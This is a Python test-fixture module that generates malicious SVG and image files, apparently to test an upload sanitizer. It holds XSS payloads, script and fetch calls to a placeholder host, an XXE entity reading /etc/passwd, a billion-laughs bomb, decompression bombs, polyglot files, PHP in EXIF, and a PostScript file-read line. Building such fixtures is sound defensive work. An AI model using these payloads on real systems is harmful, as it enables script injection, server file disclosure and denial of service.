"""Pictures that are something else as well, or too much: each by a name that says what it is."""

import gzip
import struct
import zlib
from io import BytesIO

from PIL import Image, PngImagePlugin

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SCRIPT = b"<script>alert(1)</script>"
SIGNATURE = b"\x89PNG\r\n\x1a\n"


def svg(inside: str = "", more: str = "", before: str = "") -> bytes:
    return f'{before}<svg {NS} viewBox="0 0 48 48" {more}><g>{inside}</g></svg>'.encode()


def raster(form: str, **options: object) -> bytes:
    written = BytesIO()
    Image.new("RGB", (48, 48), "#0b5d7a").save(written, form, **options)  # type: ignore[arg-type]
    return written.getvalue()


def png(*chunks: tuple[bytes, bytes], size: tuple[int, int] = (48, 48)) -> bytes:
    """A PNG of these chunks and one row of nothing."""
    head = (b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    rows = (b"IDAT", zlib.compress(b"\0" * (size[1] * (size[0] * 3 + 1) if size[0] < 999 else 9)))
    parts = (head, *chunks, rows, (b"IEND", b""))
    return SIGNATURE + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )


def drawings(at: str) -> dict[str, bytes]:
    """SVG files; `at` is an address that nobody may ever ask."""
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{at}/dtd">]>'
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    inside = {
        "script": f'<script href="{at}/s.js">fetch("{at}/f")</script>',
        "handler": f'<rect width="9" height="9" onload="fetch(\'{at}/f\')" onclick="alert(1)"/>',
        "foreign object": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="{at}/i"/><iframe src="{at}/n"/></body></foreignObject>',
        "image": f'<image href="{at}/i.png" width="9" height="9"/>',
        "image, old": f'<image xlink:href="{at}/i.png" width="9" height="9"/>',
        "use": f'<use href="{at}/u.svg#x"/><use xlink:href="{at}/u.svg#x"/>',
        "use of data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
        "style": f"<style>@import url({at}/c.css);rect{{fill:url({at}/c)}}</style>",
        "style attribute": f'<rect style="fill:url({at}/c)" width="9" height="9"/>',
        "paint": f'<rect fill="url({at}/c#x)" stroke="URL( \'{at}/d#x\' )" width="9" height="9"/>',
        "paint, escaped": f'<rect fill="u&#114;l({at}/c#x)" width="9" height="9"/>',
        "filter": f'<filter id="f"><feImage href="{at}/i"/></filter><g filter="url(#f)"/>',
        "link": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
        "set": '<set attributeName="href" to="javascript:alert(1)"/>',
        "animate": f'<animate attributeName="href" values="{at}/v;javascript:alert(1)"/>',
        "another namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "cdata": "<desc><![CDATA[<script>alert(1)</script>]]></desc>",
        "include": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{at}/x"/>',
        "text": "<text><tspan>FDIC insured</tspan></text>",
        "metadata": f'<metadata><rdf about="{at}/m"/></metadata>',
        "pattern": f'<pattern id="p"><image href="{at}/i"/></pattern><rect fill="url(#p)"/>',
        "cursor": f'<rect cursor="url({at}/c)" width="9" height="9"/>',
        "base": f'<g xml:base="{at}/"><use href="#x"/></g>',
        "odd numbers": '<rect width="1e308" height="nan" x="-1e308"/><circle r="inf"/>',
        "odd outline": '<path d="L9 9 Z M z a1 1 0 2 9 9 9"/><path d="M1e999 0L0 1e999"/>',
        "itself": '<g id="a"><use href="#a"/></g>',
        "own gradient": '<linearGradient id="a" href="#a"/><rect fill="url(#a)" width="9"/>',
    }  # fmt: skip
    return {name: svg(markup) for name, markup in inside.items()} | {
        "handler on the root": svg(more='onload="alert(1)"'),
        "style sheet": svg(before=f'<?xml-stylesheet href="{at}/c.css"?>'),
        "entity of a file": svg("&x;", before=entity.replace(f"{at}/dtd", "file:///etc/passwd")),
        "entity of a place": svg("&x;", before=entity),
        "parameter entity": svg(before=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{at}/p"> %p;]>'),
        "outside document type": svg(before=f'<!DOCTYPE svg SYSTEM "{at}/dtd">'),
        "laughs": svg("&l9;", before=f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>'),
        "other letters": f'<?xml version="1.0" encoding="utf-16"?><svg {NS}/>'.encode("utf-16"),
        "other letters, declared": svg(before='<?xml version="1.0" encoding="utf-7"?>'),
        "packed": gzip.compress(svg("<script>alert(1)</script>")),
        "deep": svg("<g>" * 9_000 + "</g>" * 9_000),
        "many": svg("<g/>" * 60_000),
        "long": svg(f'<path d="M0 0{" 1 1" * 100_000}"/>'),
        "wide": svg(" ".join(f'<g a{n}="{n}"/>' for n in range(9_000))),
        "page": b"<!doctype html><html><body><svg/>" + SCRIPT + b"</body></html>",
        "page in a comment": b"<!-- " + SCRIPT + b" -->" + svg(),
    }


def rasters() -> dict[str, bytes]:
    """Files that other programs read otherwise, or that unfold to much."""
    words = PngImagePlugin.PngInfo()
    words.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    exif = Image.Exif()
    exif[0x010E], exif[0x8298], exif[0x0112] = SCRIPT.decode(), "<?php phpinfo() ?>", 6
    exif.get_ifd(0x8825)[1] = "N"
    profile = zlib.compress(b"\0" * 50_000_000)
    frames = [Image.new("RGB", (48, 48), (n, n, n)) for n in range(200)]
    moving = {"save_all": True, "append_images": frames}
    return {
        "page behind a PNG": raster("PNG") + SCRIPT,
        "archive behind a PNG": raster("PNG") + b"PK\x03\x04" + b"\0" * 60,
        "script in a comment of a GIF": raster("GIF", comment=b"*/=1;alert(1)//"),
        "script as a GIF": b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)//",
        "script in a JPEG": raster("JPEG", comment=SCRIPT),
        "words of a PNG": raster("PNG", pnginfo=words),
        "what a camera wrote": raster("JPEG", exif=exif),
        "what a camera wrote, PNG": raster("PNG", exif=exif),
        "packed words": png((b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 90_000_000))),
        "packed profile": png((b"iCCP", b"x\0\0" + profile)),
        "huge PNG": png(size=(64_250, 64_250)),
        "long PNG": png(size=(2**31 - 1, 1)),
        "empty PNG": png(size=(0, 0)),
        "moving": raster("GIF", **moving),
        "moving WebP": raster("WEBP", **moving),
        "cut off": raster("JPEG")[:-200],
        "a document": b"%PDF-1.7\n" + b"\0" * 60,
        "a program for a printer": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
        "an icon": raster("ICO"),
        "a bitmap": raster("BMP"),
        "a TIFF": raster("TIFF"),
        "a PCX": raster("PCX"),
        "a TGA": raster("TGA"),
        "a Portable Pixmap": b"P6 99999 99999 255\n",
        "vectors of a window": b"\xd7\xcd\xc6\x9a" + b"\0" * 60,
        "a call of another": b"push graphic-context\nfill 'url(https://x)'\n",
    }
